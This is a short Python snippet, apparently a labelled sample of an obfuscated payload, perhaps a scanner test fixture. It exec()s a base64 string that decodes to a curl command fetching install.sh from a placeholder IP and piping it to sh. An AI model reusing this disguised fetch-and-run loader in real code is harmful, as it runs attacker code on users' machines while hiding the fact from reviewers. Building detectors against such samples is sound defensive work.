# Disguised: the decoder reached through __import__.
exec(__import__("base64").b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy45L2luc3RhbGwuc2ggfCBzaCcp"))
